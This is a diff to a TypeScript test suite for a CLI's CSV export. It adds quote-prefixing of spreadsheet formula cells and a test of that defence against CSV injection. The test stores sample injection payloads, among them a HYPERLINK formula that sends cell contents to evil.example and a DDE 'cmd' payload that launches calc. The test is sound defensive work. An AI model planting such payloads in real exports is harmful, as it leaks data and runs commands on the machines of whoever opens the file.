@@ -106,6 +106,11 @@ async function truth(where?: { sourceId?: number }): Promise<Truth[]> {
 
 const withoutChunks = (rows: Truth[]) => rows.map(({ chunks: _c, ...rest }) => rest);
 
+/** A cell a spreadsheet would run as a formula (OWASP, CSV injection): what the CSV writer prefixes with `'`. */
+const FORMULA_LEAD = /^[=+\-@\t\r]/;
+const neutralised = <T extends Record<string, unknown>>(rows: T[]): T[] =>
+  rows.map((r) => Object.fromEntries(Object.entries(r).map(([k, v]) => [k, typeof v === 'string' && FORMULA_LEAD.test(v) ? `'${v}` : v])) as T);
+
 /** A CSV export read back: nulls as null, numbers as numbers, arrays parsed. */
 function readCsv(path: string): Record<string, unknown>[] {
   const rows = parseCsv(readFileSync(path), {
@@ -158,7 +163,46 @@ describe('export', () => {
     const all = withoutChunks(await truth());
     const out = join(dir, 'all.csv');
     await ok(['export', '--format', 'csv', '--out', out]);
-    expect(readCsv(out)).toEqual(all);
+    expect(readCsv(out)).toEqual(neutralised(all));
+  });
+
+  it("CSV: a cell a spreadsheet would run as a formula starts with ' (OWASP); --csv-raw-formulas writes it as stored", async () => {
+    const { sql } = h.database;
+    const [x, y] = chunked.ids;
+    const saved = await sql<{ id: string; title: string | null; description: string | null; channel_name: string | null }[]>`
+      select id, title, description, channel_name from videos where id = any(${[x!, y!]}::text[])`;
+    const [text] = await sql<{ text: string }[]>`select text from transcripts where video_id = ${x!} and lang = ${chunked.lang}`;
+    const cells = {
+      x: { title: '=HYPERLINK("http://evil.example/?"&A1,"open")', description: "@SUM(1+1)*cmd|' /C calc'!A0", channel_name: '+1+1', text: '-2+3' },
+      y: { title: '\t=1+1', description: '\r=2+2', channel_name: 'a=b, not at the start' },
+    };
+    await sql`update videos set title = ${cells.x.title}, description = ${cells.x.description}, channel_name = ${cells.x.channel_name} where id = ${x!}`;
+    await sql`update videos set title = ${cells.y.title}, description = ${cells.y.description}, channel_name = ${cells.y.channel_name} where id = ${y!}`;
+    await sql`update transcripts set text = ${cells.x.text} where video_id = ${x!} and lang = ${chunked.lang}`;
+    try {
+      const all = withoutChunks(await truth());
+      const out = join(dir, 'formulas.csv');
+      await ok(['export', '--format', 'csv', '--out', out]);
+      const back = readCsv(out);
+      expect(back).toEqual(neutralised(all));
+      const rowOf = (rows: Record<string, unknown>[], id: string) => rows.find((r) => r.video_id === id && r.lang === chunked.lang)!;
+      expect(rowOf(back, x!)).toMatchObject({ title: `'${cells.x.title}`, description: `'${cells.x.description}`, channel_name: `'${cells.x.channel_name}`, text: `'${cells.x.text}` });
+      expect(rowOf(back, y!)).toMatchObject({ title: `'${cells.y.title}`, description: `'${cells.y.description}`, channel_name: cells.y.channel_name });
+
+      await ok(['export', '--format', 'csv', '--out', out, '--csv-raw-formulas']);
+      const raw = readCsv(out);
+      expect(raw).toEqual(all);
+      expect(rowOf(raw, x!)).toMatchObject(cells.x);
+
+      expectCleanError(await cli(['export', '--format', 'jsonl', '--out', out, '--csv-raw-formulas']), 2, '--csv-raw-formulas', 'csv');
+      const help = await ok(['export', '--help']);
+      expect(help.stdout).toContain('--csv-raw-formulas');
+      expect(help.stdout).toMatch(/formula/i);
+      expect(help.stdout).toContain("'");
+    } finally {
+      for (const v of saved) await sql`update videos set title = ${v.title}, description = ${v.description}, channel_name = ${v.channel_name} where id = ${v.id}`;
+      await sql`update transcripts set text = ${text!.text} where video_id = ${x!} and lang = ${chunked.lang}`;
+    }
   });
 
   it('Parquet, with and without --chunks, read by DuckDB equals the tables', async () => {
